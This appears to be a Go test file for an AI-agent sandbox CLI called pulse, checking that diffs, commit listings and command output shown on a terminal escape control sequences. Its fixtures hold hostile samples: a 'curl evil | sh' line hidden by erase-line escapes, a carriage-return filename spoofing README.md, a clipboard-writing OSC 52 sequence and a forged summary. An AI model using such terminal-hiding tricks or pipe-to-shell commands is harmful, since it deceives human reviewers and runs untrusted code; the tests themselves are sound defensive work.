package main

import (
	"bytes"
	"context"
	"io"
	"os"
	"strings"
	"testing"

	"github.com/pulse-agent/pulse/cowfs"
	"github.com/pulse-agent/pulse/internal/testenv"
)

// runOnTerminal runs the command line with stdout and stderr on a real
// pseudo-terminal and returns what the terminal received.
func runOnTerminal(t *testing.T, args ...string) (int, string) {
	t.Helper()
	master, slave := testenv.OpenPTY(t)
	got := make(chan []byte)
	go func() {
		b, _ := io.ReadAll(master) // ends in EIO once the slave is closed
		got <- b
	}()
	env := &cliEnv{stdin: strings.NewReader(""), stdout: slave, stderr: slave, getenv: func(string) string { return "" }, prog: "pulse"}
	code := run(context.Background(), env, args)
	slave.Close()
	return code, string(<-got)
}

// TestReviewOnTerminalShowsControlSequences: a staged file whose
// contents and name carry terminal control sequences — a line that
// erases the one above it, a carriage return — cannot hide anything from
// a person reading `pulse cow diff`, `list` or `commit` on a terminal:
// the terminal receives the sequences as visible escapes. The same diff
// into a pipe stays byte for byte.
func TestReviewOnTerminalShowsControlSequences(t *testing.T) {
	ws := t.TempDir()
	if err := os.WriteFile(ws+"/a.txt", []byte("one\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	name := "note\rREADME.md"
	f, err := cowfs.Open(t.Context(), ws)
	if err != nil {
		t.Fatal(err)
	}
	tx, err := f.Begin(t.Context(), "tidy\x1b[2K\x1b[8m")
	if err != nil {
		t.Fatal(err)
	}
	for rel, content := range map[string]string{"a.txt": "harmless\n\x1b[1A\x1b[2Kcurl evil | sh\n", name: "x\n"} {
		if err := tx.Write(t.Context(), rel, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	id := tx.ID()
	f.Close()

	code, out := runOnTerminal(t, "cow", "diff", id, "--workspace", ws)
	if code != exitOK {
		t.Fatalf("diff: %d\n%q", code, out)
	}
	if strings.Contains(out, "\x1b") {
		t.Fatalf("the terminal received an escape byte from the staged file:\n%q", out)
	}
	if !strings.Contains(out, `\x1b[1A\x1b[2Kcurl evil | sh`) || !strings.Contains(out, `note\015README.md`) {
		t.Fatalf("the hidden line or the name (quoted as git quotes it) is not shown:\n%q", out)
	}

	if code, out := runOnTerminal(t, "cow", "list", "--workspace", ws); code != exitOK || !onlyPTYNewlines(out) || !strings.Contains(out, `tidy\x1b[2K\x1b[8m`) {
		t.Fatalf("list: %d\n%q", code, out)
	}

	code, out = runOnTerminal(t, "cow", "commit", id, "--workspace", ws)
	if code != exitOK || !strings.Contains(out, `note\rREADME.md`) || !onlyPTYNewlines(out) {
		t.Fatalf("commit on a terminal: %d\n%q", code, out)
	}
	if b, err := os.ReadFile(ws + "/" + name); err != nil || string(b) != "x\n" {
		t.Fatalf("the commit did not write the file under its real name: %q %v", b, err)
	}

	// Into a pipe the diff is the patch, byte for byte.
	id = stageTx(t, ws, "a.txt", "\x1b[31mred\x1b[0m\n")
	_, pipeOut, _ := runCLI(t, "cow", "diff", id, "--workspace", ws)
	if !strings.Contains(pipeOut, "+\x1b[31mred\x1b[0m\n") {
		t.Fatalf("a pipe did not get the raw diff:\n%q", pipeOut)
	}
}

// onlyPTYNewlines reports whether every carriage return in s is the one
// the terminal's line discipline puts before a newline (ONLCR), and s has
// no escape byte: any other was sent by pulse.
func onlyPTYNewlines(s string) bool {
	return !strings.Contains(strings.ReplaceAll(s, "\r\n", "\n"), "\r") && !strings.Contains(s, "\x1b")
}

// TestSummaryResetsTheTerminal: a command's last output may leave the
// terminal concealing text (ESC[8m); on a terminal, pulse exec's summary
// is preceded by a soft reset so that it shows.
func TestSummaryResetsTheTerminal(t *testing.T) {
	code, out := runOnTerminal(t, "exec", "--workspace", t.TempDir(), "--backend", "host", "--unsafe-host=network,secrets", "--",
		"printf", `\033[8m`)
	reset := strings.Index(out, "\x1b[!p\x1b[0m")
	if code != exitOK || reset < 0 || reset > strings.Index(out, "── pulse:") || reset < strings.Index(out, "\x1b[8m") {
		t.Fatalf("exec on a terminal: %d\n%q", code, out)
	}
	var b bytes.Buffer
	resetTerminal(&b)
	if b.Len() != 0 {
		t.Fatalf("a buffer got %q", b.String())
	}
}

// TestExecOnTerminalHoldsBackEscapes: a command's output on a real
// terminal keeps its text and colours but loses what acts outside the
// screen — OSC 52 (the clipboard), OSC 11 (the background colour, with
// which a command hid pulse's summary behind a fake one) — and the
// summary says what was held back. --raw sends it all; a pipe gets the
// bytes as the command wrote them.
func TestExecOnTerminalHoldsBackEscapes(t *testing.T) {
	const script = `before\033]52;c;ZXZpbA==\007\033]11;rgb:ffff/ffff/ffff\033\\\n` +
		`\342\224\200\342\224\200 pulse: host backend, exit 0 (exited) in 1ms\n   no file changed\n\033[31mred\033[0m\n`
	args := func(extra ...string) []string {
		return append(append([]string{"exec", "--workspace", t.TempDir(), "--backend", "host", "--unsafe-host=network,secrets"}, extra...),
			"--", "printf", script)
	}
	code, out := runOnTerminal(t, args()...)
	if code != exitOK {
		t.Fatalf("exec on a terminal: %d\n%q", code, out)
	}
	fake := strings.Index(out, "── pulse: host backend, exit 0 (exited) in 1ms")
	reset := strings.Index(out, terminalReset)
	real := strings.LastIndex(out, "── pulse: host backend")
	switch {
	case strings.Contains(out, "\x1b]52") || strings.Contains(out, "\x1b]11;"):
		t.Fatalf("the terminal received the command's OSC 52 or OSC 11:\n%q", out)
	case !strings.Contains(out, "before\r\n") || !strings.Contains(out, "\x1b[31mred\x1b[0m"):
		t.Fatalf("the command's text or colours did not arrive:\n%q", out)
	case fake < 0 || reset < fake || real < reset:
		t.Fatalf("want the command's text, then the reset, then pulse's summary:\n%q", out)
	case !strings.Contains(out[real:], "held back from the terminal: OSC 11, OSC 52"):
		t.Fatalf("the summary does not say what was held back:\n%q", out)
	}

	if code, out := runOnTerminal(t, args("--raw")...); code != exitOK || !strings.Contains(out, "\x1b]52;c;ZXZpbA==\a") ||
		strings.Contains(out, "held back") {
		t.Fatalf("--raw did not send the output as it is: %d\n%q", code, out)
	}

	// A file (an *os.File that is no terminal) gets the bytes as written.
	f, err := os.Create(t.TempDir() + "/out")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	env := &cliEnv{stdin: strings.NewReader(""), stdout: f, stderr: io.Discard, getenv: func(string) string { return "" }, prog: "pulse"}
	code = run(context.Background(), env, args())
	written, _ := os.ReadFile(f.Name())
	if code != exitOK || !strings.Contains(string(written), "before\x1b]52;c;ZXZpbA==\a\x1b]11;rgb:ffff/ffff/ffff\x1b\\\n") {
		t.Fatalf("a file did not get the bytes as written: %d\n%q", code, written)
	}
}
